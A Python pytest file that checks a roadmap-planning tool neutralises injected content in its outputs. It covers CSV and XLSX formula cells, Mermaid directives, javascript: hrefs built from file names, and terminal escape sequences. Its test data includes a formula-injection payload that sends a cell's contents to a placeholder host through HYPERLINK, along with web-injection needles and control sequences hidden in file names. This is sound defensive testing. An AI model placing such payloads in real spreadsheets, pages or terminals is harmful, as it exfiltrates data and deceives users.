"""Plan text that tries to become code: spreadsheet formulas, Mermaid directives, links
from file names, terminal escape sequences. (The browser half is test_injection_browser.py.)
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest

from injection_corpus import FILE_NAME, PAYLOADS, TERMINAL, hostile_plan, poison, write_plan
from roadmap import adapt, store
from roadmap.escaping import FORMULA_START, csv_cell, for_terminal, relative_href
from roadmap.render import flowchart, tables, timeline

TODAY = dt.date(2026, 11, 23)
HEADER = (
    "id,stage,direction,task,flowchart_box,year_start,year_end,persons_involved,owner,"
    "expected_results,success_indicators,international_examples,status"
)
FORMULAS = [p for p in PAYLOADS if p.startswith(FORMULA_START)]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return hostile_plan(tmp_path_factory.mktemp("hostile"))


def test_corpus_is_large_and_covers_every_kind() -> None:
    assert len(PAYLOADS) >= 50
    for needle in ("<script", "onerror=", "javascript:", "<svg onload", "expression(", "</textarea>", "%%{init", "=HYPERLINK", "\u202e"):
        assert any(needle in p for p in PAYLOADS), needle
    assert len(FORMULAS) >= 5


# ---------------------------------------------------------------------------------------
# Spreadsheets


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_action_plan_csv_cells_that_look_like_formulas_start_with_a_quote(hostile: Path) -> None:
    text = tables.render(store.load(hostile).plan, "csv").decode("utf-8")
    assert text.split("\r\n", 1)[0] == HEADER  # the header scripts read is unchanged
    cells = [cell for row in _csv_cells(text)[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    quoted = {c[1:] for c in cells if c.startswith("'")}
    assert any(c.startswith("=HYPERLINK(") for c in quoted)
    assert any(c.startswith("@SUM(") for c in quoted) and any(c.startswith("\t=1+1") for c in quoted)


def test_single_formula_title_round_trip_in_csv_and_xlsx(kg_plan: Path) -> None:
    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
    adapt.revise(kg_plan, "DAT-2", title=evil, today=TODAY)
    plan = store.load(kg_plan).plan
    rows = _csv_cells(tables.render(plan, "csv").decode("utf-8"))
    row = next(r for r in rows if r[0] == "DAT-2")
    assert row[3] == "'" + evil
    assert row[5].isdigit() and row[6].isdigit()  # numbers are left as they are
    book = load_workbook(io.BytesIO(tables.render(plan, "xlsx")))
    sheet = book.worksheets[0]
    cell = next(r[3] for r in sheet.iter_rows(min_row=2) if r[0].value == "DAT-2")
    assert (cell.value, cell.data_type, cell.quotePrefix) == (evil, "s", True)


def test_xlsx_has_no_formula_cell_anywhere(hostile: Path) -> None:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(tables.render(store.load(hostile).plan, "xlsx")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert any(t.startswith("=HYPERLINK(") for t in texts)  # the text is there, as text
    assert any(t.startswith("-2+3+cmd") for t in texts)


def test_compare_csv_quotes_formula_cells(cli, hostile: Path, kg_plan: Path) -> None:  # type: ignore[no-untyped-def]
    result = cli("compare", kg_plan, hostile, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = _csv_cells(result.stdout)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert any(c.startswith("'=") or c.startswith("'+") or c.startswith("'-") or c.startswith("'@") for c in cells)
    assert all(re.fullmatch(r"\d*", row[-1]) for row in rows[1:])  # counts stay numbers


def test_csv_cell_prefix_is_the_owasp_quote() -> None:
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx", "a=1", "", -3, 2.5)] == [
        "'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=1", "", -3, 2.5,
    ]


# ---------------------------------------------------------------------------------------
# Mermaid


@pytest.mark.parametrize("kind", ["flowchart", "timeline"])
def test_mermaid_text_carries_no_directive(hostile: Path, kind: str) -> None:
    plan = store.load(hostile).plan
    module = flowchart if kind == "flowchart" else timeline
    options = {"as_of": TODAY} if kind == "timeline" else {"details": True}
    text = module.render(plan, "mermaid", **options).decode("utf-8")
    assert "%%" not in text
    if kind == "flowchart":
        assert "{init: {&quot;securityLevel&quot;" in text  # the words are still shown


def test_mermaid_directive_in_a_title_is_shown_not_obeyed(kg_plan: Path) -> None:
    directive = '%%{init: {"theme": "dark"}}%% 50% done'
    adapt.revise(kg_plan, "DAT-2", title=directive, box=directive, today=TODAY)
    plan = store.load(kg_plan).plan
    chart = flowchart.render(plan, "mermaid").decode("utf-8")
    assert "&percnt;&percnt;{init: {&quot;theme&quot;: &quot;dark&quot;}}&percnt;&percnt; 50&percnt; done" in chart
    gantt = timeline.render(plan, "mermaid", as_of=TODAY).decode("utf-8")
    assert '% %{init, {"theme", "dark"}}% % 50% done' in gantt


# ---------------------------------------------------------------------------------------
# Links built from file names


def test_site_links_the_plan_file_as_a_relative_path(tmp_path: Path) -> None:
    from roadmap.publish import publish

    plan = hostile_plan(tmp_path, name=FILE_NAME)
    site = tmp_path / "site"
    publish(plan, site, as_of=TODAY)
    index = (site / "index.html").read_text(encoding="utf-8")
    hrefs = re.findall(r'href="([^"]*)"', index)
    assert relative_href(FILE_NAME) in hrefs
    assert relative_href(FILE_NAME).startswith("./javascript%3A")
    # the only schemes are the ones the page means: the contact's mailto: and an empty data: icon
    assert not [
        h for h in hrefs if re.match(r"\s*[a-z][a-z0-9+.-]*:", h, re.I) and not h.startswith(("data:,", "mailto:"))
    ]
    assert (site / FILE_NAME).read_bytes() == plan.read_bytes()  # the link leads to the file


# ---------------------------------------------------------------------------------------
# Terminal


ESCAPES = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_for_terminal_removes_sequences_and_keeps_the_words() -> None:
    assert [for_terminal(t) for t in TERMINAL] == [
        "cleared", "", "link", "red", "csi8", "bellbackspace",
    ]
    assert for_terminal("tab\tand\nnewline stay; Кириллица too") == "tab\tand\nnewline stay; Кириллица too"


@pytest.fixture
def escaping_plans(tmp_path: Path) -> tuple[Path, Path]:
    """Two plans with escape sequences in titles, owners, names, notes, history, file name."""
    a = tmp_path / "kg\x1b[1mVISIBLE\x9b0m.yaml"
    adapt.init(a, country="KG", start_year=2024, today=TODAY)
    adapt.tick(a, ["DEF-1"], on="2025-01-01", today=TODAY)
    adapt.goal(a, "G4", reached=True, on="2025-05-02", today=TODAY)
    adapt.revise(a, "DAT-2", title="placeholder", today=TODAY)
    data = poison(store.load(a).data, [f"VISIBLE{k} {t}" for k, t in enumerate(TERMINAL)])
    for entry in data["history"]:
        entry["note"] = TERMINAL[0] + "VISIBLE-note"
        if entry["new"] == "placeholder":
            entry["new"] = TERMINAL[2] + "VISIBLE-title"
    write_plan(a, data)
    b = tmp_path / "kz.yaml"
    data["meta"]["country"] = {"code": "KZ", "name": "\x1b]0;kz\x07VISIBLE-KZ"}
    data["tasks"][0]["title"] = "\x1b[31mVISIBLE-changed\x1b[0m"
    write_plan(b, data)
    return a, b


@pytest.fixture
def escaping_names(tmp_path: Path) -> tuple[Path, Path]:
    """Two clean plans whose file names carry escape sequences (a name is the one piece of
    plan-borne text that cannot be refused: every message names the file)."""
    a = tmp_path / "kg\x1b[1mVISIBLE\x9b0m.yaml"
    adapt.init(a, country="KG", start_year=2024, today=TODAY)
    adapt.tick(a, ["DEF-1"], on="2025-01-01", today=TODAY)
    adapt.goal(a, "G4", reached=True, on="2025-05-02", today=TODAY)
    b = tmp_path / "kz\x1b]0;title\x07VISIBLE.yaml"
    adapt.init(b, country="KZ", start_year=2024, today=TODAY)
    adapt.revise(b, "DAT-2", title="Changed", today=TODAY)
    return a, b


COMMANDS = [
    ["status", "{a}", "--as-of", "2026-11-23"],
    ["changelog", "{a}"],
    ["history", "{a}"],
    ["diff", "{a}", "{b}"],
    ["diff", "{a}", "{b}", "--format", "md"],
    ["compare", "{a}", "{b}"],
    ["vision", "{a}", "{b}", "--as-of", "2026-12-31"],
    ["validate", "{a}"],
]
COMMAND_IDS = ["status", "changelog", "history", "diff", "diff-md", "compare", "vision", "validate"]


@pytest.mark.parametrize("args", COMMANDS, ids=COMMAND_IDS)
def test_terminal_output_carries_no_escape_sequence(cli, escaping_names, args: list[str]) -> None:  # type: ignore[no-untyped-def]
    a, b = escaping_names
    result = cli(*[x.format(a=a, b=b) for x in args])
    shown = result.stdout + result.stderr
    assert ESCAPES.findall(shown) == [], args
    assert result.exit_code in (0, 3), shown[-2000:]
    if args[0] in ("diff", "validate"):  # the commands that name the files
        assert "VISIBLE" in shown  # the words arrive, without their sequences


@pytest.mark.parametrize("args", COMMANDS, ids=COMMAND_IDS)
def test_escape_sequences_in_plan_text_are_refused_and_never_shown(cli, escaping_plans, args: list[str]) -> None:  # type: ignore[no-untyped-def]
    """Escapes written into titles, names, notes and history (as YAML escapes) are refused at
    reading, located; the refusal itself carries no sequence either."""
    a, b = escaping_plans
    result = cli(*[x.format(a=a, b=b) for x in args])
    shown = result.stdout + result.stderr
    assert result.exit_code == 1, shown[-2000:]
    assert "written as an escape, is not allowed in a plan" in result.stderr
    assert ESCAPES.findall(shown) == [], args


def test_json_output_of_such_a_plan_is_refused_not_stripped(cli, escaping_plans) -> None:  # type: ignore[no-untyped-def]
    a, _ = escaping_plans
    result = cli("status", a, "--json", "--as-of", "2026-11-23")
    assert result.exit_code == 1 and result.stdout == ""
    assert "\x1b" not in result.stderr and "written as an escape" in result.stderr
